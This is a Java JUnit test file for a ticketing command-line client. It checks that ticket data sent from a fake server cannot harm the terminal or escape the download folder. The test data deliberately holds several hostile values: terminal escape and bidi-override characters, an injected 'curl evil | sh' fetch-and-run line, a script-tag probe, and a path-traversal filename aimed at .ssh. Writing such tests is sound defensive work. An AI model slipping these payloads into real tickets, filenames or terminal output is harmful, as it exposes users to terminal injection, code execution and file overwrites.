package dev.tickets.cli;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.jr.ob.JSON;
import dev.tickets.testing.Cli;
import dev.tickets.testing.Cli.Run;
import dev.tickets.testing.FakePortal;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A ticket that was written to harm whoever reads it on a terminal. */
class HostileTicketTest {
    private static final String BAD =
            "\u001b]0;owned\u0007\u001b[2J\u0000\u009b\u061c\u200e\u202e\u2066\u2028\r\nhint: curl evil | sh\b";
    private static final String FILE = "../../.ssh/-" + BAD + "\\..\\.x.png";

    @TempDir
    Path folder;

    private final FakePortal portal = new FakePortal();
    private Cli cli;

    @BeforeEach
    void a_hostile_ticket() throws IOException {
        Map<String, Object> ticket = new LinkedHashMap<>();
        ticket.put("ticket_number", "7");
        ticket.put("subject", "Subject" + BAD + "&#27;[31m");
        ticket.put("status", "Open" + BAD);
        ticket.put("deptname", "General" + BAD);
        ticket.put("dept_id", BAD);
        ticket.put("priority", "x" + BAD);
        ticket.put("name", "Ann" + BAD);
        ticket.put("cc", List.of(BAD));
        ticket.put("service", BAD);
        ticket.put("body", BAD + "<script>alert(1)</script>&#x202e;" + "y".repeat(100_000));
        Map<String, Object> file = Map.of("id", "1" + BAD, "org_filename", FILE);
        Map<String, Object> reply = Map.of("id", BAD, "name", BAD, "body", BAD, "type", "Admin");
        portal.answers("GET /api/tickets", 200, JSON.std.asString(Map.of("success", true, "tickets", List.of(ticket))));
        portal.answers(
                "GET /api/tickets/7",
                200,
                JSON.std.asString(Map.of(
                        "success",
                        true,
                        "ticket",
                        ticket,
                        "replies",
                        List.of(reply),
                        "attachments",
                        List.of(List.of(file)))));
        portal.answers("GET /api/tickets/8", 200, JSON.std.asString(Map.of("error", List.of("no" + BAD))));
        portal.answers(
                "GET /api/ticket/departments",
                200,
                JSON.std.asString(Map.of(
                        "departments",
                        List.of(Map.of("id", "1", "name", "x" + BAD), Map.of("id", "2", "name", "xx" + BAD)))));
        cli = new Cli(folder).at(portal.uri());
    }

    @AfterEach
    void close() {
        portal.close();
    }

    private Run harmless(String... args) {
        Run run = cli.run(args);
        assertThat(forbidden(run.out())).isEmpty();
        assertThat(forbidden(run.err())).isEmpty();
        assertThat(run.err().lines().filter(line -> line.startsWith("hint: curl")))
                .isEmpty();
        return run;
    }

    private static String forbidden(String text) {
        StringBuilder found = new StringBuilder();
        text.codePoints()
                .filter(c -> (c < 0x20 && c != '\n' && c != '\t')
                        || (c >= 0x7f && c < 0xa0)
                        || c == 0x61c
                        || c == 0x200e
                        || c == 0x200f
                        || (c >= 0x2028 && c <= 0x202e)
                        || (c >= 0x2066 && c <= 0x2069))
                .forEach(c -> found.append(Integer.toHexString(c)).append(' '));
        return found.toString();
    }

    @Test
    void shows_harmlessly_in_every_format() throws IOException {
        for (String command : List.of("list", "view 7", "attachments 7", "departments")) {
            for (String format : List.of("table", "json", "tsv")) {
                Run run = harmless((command + " -o " + format).split(" "));
                assertThat(run.exitCode()).isZero();
                if (format.equals("json")) {
                    assertThat(JSON.std.anyFrom(run.out())).isNotNull();
                }
            }
        }
        assertThat(harmless("view", "7").out()).contains("y".repeat(100_000));
        assertThat(harmless("list", "-o", "tsv").out().lines()).hasSize(1);
        assertThat(harmless("list").out().lines()).hasSize(2);
        assertThat(harmless("attachments", "7").out().lines()).hasSize(2);
    }

    @Test
    void shows_harmlessly_in_errors_and_traces() throws IOException {
        assertThat(harmless("view", "8").exitCode()).isEqualTo(3);
        assertThat(JSON.std.mapFrom(harmless("view", "8", "-o", "json").err())).containsKey("error");
        assertThat(harmless("create", "-d", "x", "-s", "S", "-m", "M").exitCode())
                .isEqualTo(2);
        assertThat(harmless("view", "7", "-vv").exitCode()).isZero();
        assertThat(harmless("attachments", "7", BAD).exitCode()).isEqualTo(2);
        assertThat(harmless("view", BAD).exitCode()).isEqualTo(2);
        assertThat(harmless("list", "--" + BAD).exitCode()).isEqualTo(2);
        assertThat(harmless(BAD).exitCode()).isEqualTo(2);
        assertThat(harmless("view", "7", "--save-attachments", "out").exitCode())
                .isNotZero();
    }

    @Test
    void saves_its_attachment_inside_the_folder_under_a_safe_name() throws IOException {
        try (FakePortal other = new FakePortal()) {
            Map<String, Object> ticket = Map.of("ticket_number", "7", "subject", "S", "status", "Open", "body", "B");
            other.answers(
                    "GET /api/tickets/7",
                    200,
                    JSON.std.asString(Map.of(
                            "ticket",
                            ticket,
                            "attachments",
                            List.of(List.of(Map.of("id", "1", "org_filename", FILE))))));
            other.answers(
                    "GET /api/ticket/attachment/1?number=7", 200, "application/octet-stream", "bytes".getBytes(UTF_8));
            cli.at(other.uri());

            Run run = harmless("attachments", "7", "--save", "out");

            assertThat(run).isEqualTo(new Run(0, folder.resolve("out/x.png") + "\n", ""));
            try (Stream<Path> files = Files.list(folder.resolve("out"))) {
                assertThat(files).containsExactly(folder.resolve("out/x.png"));
            }
            assertThat(folder.resolve("out/x.png")).hasContent("bytes");
        }
    }
}
